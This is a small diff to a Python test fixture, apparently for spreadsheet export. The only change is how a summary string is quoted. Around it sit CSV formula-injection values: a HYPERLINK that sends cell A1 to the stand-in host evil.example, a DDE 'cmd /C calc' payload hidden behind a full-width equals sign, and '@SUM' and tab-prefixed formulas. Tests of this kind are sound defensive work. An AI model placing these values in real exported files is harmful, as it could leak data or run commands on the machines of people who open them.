@@ -39,7 +39,7 @@ def formula() -> Enriched:
     return document(
         "0f" * 16,
         '=HYPERLINK("http://evil.example/?"&A1,"Strike vote")',
-        summary="+1 for \"the\" union,\n-2 for the studio",
+        summary='+1 for "the" union,\n-2 for the studio',
         outlet="@SUM(A1:A9)",
         companies=("\uff1dcmd|' /C calc'!A0", "Netflix"),
         categories=("\t=1+1",),
